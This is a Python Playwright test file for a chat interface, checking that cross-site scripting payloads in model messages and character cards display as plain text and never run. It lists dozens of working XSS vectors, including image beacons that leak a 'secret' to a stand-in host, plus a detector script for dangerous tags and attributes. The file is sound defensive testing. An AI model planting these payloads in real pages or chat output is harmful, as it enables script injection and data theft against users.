"""Text from a model or a card is shown and never run: known cross-site scripting payloads in real messages."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from modules.chat.characters import Characters
from tests.ui.conftest import Web

PAYLOADS = (
    "<script>window.broken = 1</script>",
    "<img src=x onerror=window.broken=1>",
    "<img src=x:x onerror='window.broken=1'//",
    "<svg onload=window.broken=1>",
    "<svg><script>window.broken=1</script></svg>",
    "<svg><animate onbegin=window.broken=1 attributeName=x dur=1s></svg>",
    "<body onload=window.broken=1>",
    "<iframe src=\"javascript:parent.broken=1\"></iframe>",
    "<iframe srcdoc=\"<script>parent.broken=1</script>\"></iframe>",
    "<object data=\"javascript:window.broken=1\"></object>",
    "<embed src=\"javascript:window.broken=1\">",
    "<details open ontoggle=window.broken=1>x</details>",
    "<video><source onerror=window.broken=1></video>",
    "<audio src=x onerror=window.broken=1></audio>",
    "<input autofocus onfocus=window.broken=1>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.broken=1></style></mglyph></table></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.broken=1>\"></noscript>",
    "<form id=x><button formaction=javascript:window.broken=1>go</button></form>",
    "<a href=\"javascript:window.broken=1\">a link</a>",
    "[a link](javascript:window.broken=1)",
    "[a link](java\tscript:window.broken=1)",
    "[a link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](x\"onerror=\"window.broken=1)",
    "<https://example.invalid/\"onmouseover=window.broken=1>",
    "<style>body { display: none }</style>",
    "<base href=\"https://example.invalid/\">",
    "<meta http-equiv=refresh content=\"0; url=https://example.invalid/\">",
    "<link rel=stylesheet href=\"https://example.invalid/x.css\">",
    "```html\n<script>window.broken = 1</script>\n```",
    "`<img src=x onerror=window.broken=1>`",
    "$\\href{javascript:window.broken=1}{x}$",
    "$$\\htmlData{x=\"><img src=x onerror=window.broken=1>}{y}$$",
    "![secrets](https://example.invalid/?said=secret)",
    "<img src=//example.invalid/secret.png>",
    "<div style='background: url(https://example.invalid/secret.png)'>x</div>",
    "<div id=message>not the input</div>",
    "<x-y data-pick='instruct/x' style='position:fixed;inset:0' onclick=window.broken=1>all</x-y>",
)  # fmt: skip

#: What must not be inside a message: elements that run or load something, handlers, addresses with a program in them.
_LEFT = """
() => [...document.querySelectorAll('#column .prose *')].flatMap((each) => {
  const wrong = [];
  if (['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'BASE', 'META', 'LINK', 'STYLE'].includes(each.tagName)) {
    wrong.push(each.tagName);
  }
  for (const { name, value } of each.attributes) {
    if (name.startsWith('on')) wrong.push(each.tagName + ' ' + name);
    const address = value.replace(/[\\u0000-\\u0020]/g, '').toLowerCase();
    if (['href', 'src', 'action', 'formaction', 'data', 'xlink:href'].includes(name) &&
        (address.startsWith('javascript:') || address.startsWith('data:text'))) wrong.push(name + ' ' + value);
  }
  return wrong;
})
"""


@pytest.fixture
def told(web: Web) -> Iterator[Web]:
    """A chat in which both sides say all of them."""
    with web.both_say(PAYLOADS, "<img src=x onerror=window.broken=1>"):
        yield web


def test_no_payload_runs_or_stays(told: Web) -> None:
    page = told.page
    for link in page.locator("#column .prose a:not([href^='http'])").all():
        link.dispatch_event("click")
    page.wait_for_timeout(300)
    assert page.evaluate("window.broken") is None
    assert page.evaluate(_LEFT) == []
    assert page.url.startswith(told.url)
    assert page.locator("#message textarea").is_visible()
    assert page.locator("#chat-title").inner_text().startswith("<img")


def test_a_characters_words_are_shown_as_words(web: Web) -> None:
    name = "<img src=x onerror=window.broken=1>"
    Characters(web.app.paths).save("Sly", called=name, greeting=f"Hi, {name}", context=name)
    page = web.page
    page.keyboard.press("Control+s")
    page.locator("#mode label", has_text="chat-instruct").click()
    page.locator("#character input").click()
    page.get_by_role("option", name="Sly", exact=True).click()
    page.locator("#column .bot-row", has_text="Hi,").wait_for()
    page.wait_for_timeout(300)
    assert page.evaluate("window.broken") is None
    assert page.evaluate(_LEFT) == []
    assert "<img" in page.locator("#who").inner_text()
